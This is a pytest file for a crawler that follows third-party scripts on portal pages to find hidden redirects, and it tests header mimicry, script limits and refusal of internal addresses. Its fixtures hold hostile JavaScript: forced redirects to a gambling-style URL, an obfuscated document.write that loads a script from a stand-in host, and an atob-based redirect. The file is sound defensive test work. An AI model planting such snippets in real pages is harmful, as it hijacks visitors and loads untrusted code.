"""Scripts of hosts that nobody vouches for are fetched as the page would, and what they do is the page's doing."""

from __future__ import annotations

import pytest

from collector.sensors.portals.foreign import MOST
from collector.sensors.portals.pacing import Pacing
from tests.portals.visitor.places import Clock, World, looked, moved, page, reply, seen

TARGET = "https://zzwin88.vip/vao"


def tag(address: str) -> str:
    return f'<script src="{address}"></script>'


async def with_script(world: World, source: bytes, name: str = "dem-la.test", path: str = "/js.php?s=1", **given):
    """A portal whose page loads one script of another host, which answers `source`."""
    away = await world.serve(name, source)
    origin = await world.serve("xa.test", page("Xã", tag(away + path)))
    return await looked(await world.visitor(), origin, **given), origin


def script(source: str, **headers: str) -> bytes:
    return reply(source, content_type="application/javascript", **headers)


@pytest.mark.parametrize("kind", ["application/javascript", "text/html", "text/plain", ""])
async def test_where_a_foreign_script_leads_is_where_the_page_leads(world: World, kind: str) -> None:
    look, _ = await with_script(world, reply(f"location.replace('{TARGET}')", content_type=kind))
    hop = seen(look).hops[-1]
    assert (hop.how, hop.url, hop.folded) == ("script", TARGET, "script of dem-la.test")


async def test_it_is_asked_for_as_a_page_asks_for_scripts(world: World) -> None:
    _, origin = await with_script(world, script(";"), persona="mobile")
    head = world.servers[0].heads[0]
    assert head.startswith("GET /js.php?s=1 ")
    assert f"Referer: {origin}/\r\n" in head
    assert "Accept: */*\r\n" in head
    assert "Android" in head
    assert "Upgrade-Insecure-Requests" not in head


async def test_a_script_is_no_hop_but_evidence(world: World) -> None:
    look, _ = await with_script(world, script(";"))
    assert len(seen(look).hops) == 1
    assert [made.host for _, made in look.exchanges] == ["xa.test", "dem-la.test"]
    assert look.requests == 2


async def test_what_it_hides_is_the_pages_sign(world: World) -> None:
    look, origin = await with_script(world, script("document.write(unescape('%3Cscript src=%22https://kho-la.example/k.js%22%3E%3C/script%3E'))"))
    sign = next(sign for sign in seen(look).signs if sign.kind == "inserted_script")
    assert sign.hosts == ("kho-la.example",)
    assert sign.where.startswith("script of dem-la.test")
    assert sign.page == "xa.test" or origin.endswith(sign.page)


async def test_what_cannot_be_read_of_it_is_not_called_clean(world: World) -> None:
    look, _ = await with_script(world, script("location.href = atob(window.name)"))
    assert any("script of dem-la.test" in what for what in seen(look).unfolded)


async def test_a_script_that_a_foreign_script_loads_is_read_too(world: World) -> None:
    deep = await world.serve("kho.test", script(f"top.location='{TARGET}'"))
    look, _ = await with_script(world, script(f"var s=document.createElement('script');s.src='{deep}/k.js';document.head.appendChild(s)"))
    assert seen(look).hops[-1].folded == "script of kho.test"


async def test_a_script_that_moved_is_followed(world: World) -> None:
    end = await world.serve("kho.test", script(f"location='{TARGET}'"))
    look, _ = await with_script(world, moved(f"{end}/moi.js"))
    assert seen(look).hops[-1].url == TARGET


async def test_of_many_scripts_only_so_many_are_asked_for(world: World) -> None:
    away = await world.serve("dem-la.test", script(";"))
    origin = await world.serve("xa.test", page("Xã", "".join(tag(f"{away}/{n}.js") for n in range(9))))
    await looked(await world.visitor(), origin)
    assert world.servers[0].paths == [f"/{n}.js" for n in range(MOST)]


@pytest.mark.parametrize("name", ["cdn.jsdelivr.net", "www.xa.test", "so.tinh.gov.vn"])
async def test_hosts_that_say_nothing_are_not_asked(world: World, name: str) -> None:
    await with_script(world, script(";"), name=name)
    assert world.servers[0].heads == []


async def test_pages_that_visitors_are_led_to_have_their_scripts_left_alone(world: World) -> None:
    away = await world.serve("dem-la.test", script(";"))
    end = await world.serve("dich.test", page("Đích", tag(f"{away}/x.js")))
    origin = await world.serve("xa.test", moved(end))
    assert seen(await looked(await world.visitor(), origin)).hops[-1].url.startswith(end)
    assert world.servers[0].heads == []


@pytest.mark.parametrize("answer", [reply("<html>Không có</html>"), reply(f"location='{TARGET}'", "404 Not Found"), reply("")])
async def test_what_is_no_script_does_nothing(world: World, answer: bytes) -> None:
    look, _ = await with_script(world, answer)
    assert (len(seen(look).hops), seen(look).unfolded) == (1, ())


async def test_a_script_of_a_refused_address_is_refused(world: World) -> None:
    world.table.put("dem-la.test", ["127.0.0.1"])
    origin = await world.serve("xa.test", page("Xã", tag("http://dem-la.test:9/x.js") + tag("http://169.254.169.254/x.js")))
    visitor = await world.visitor(allow=("127.0.0.1/32",))
    look = await looked(visitor, origin)
    assert [made.trouble.partition(":")[0] for _, made in look.exchanges[1:]] == ["refused", "refused"]
    assert len(seen(look).hops) == 1


async def test_one_persona_asks_a_script_once_for_many_pages(world: World) -> None:
    away = await world.serve("dem-la.test", script(";"))
    origin = await world.serve("xa.test", page("Xã", tag(f"{away}/x.js")))
    visitor = await world.visitor()
    for path in ("/", "/tin", "/lich"):
        await looked(visitor, origin, path)
    await looked(visitor, origin, persona="mobile")
    assert world.servers[0].paths == ["/x.js", "/x.js"]


async def test_a_host_at_which_many_wait_is_crowded() -> None:
    pacing = Pacing(clock := Clock(), sleep=clock.sleep)
    async with pacing.turn("a.test"):
        assert pacing.crowded("a.test", 1)
        assert not pacing.crowded("a.test", 2)
    assert not pacing.crowded("b.test", 1)
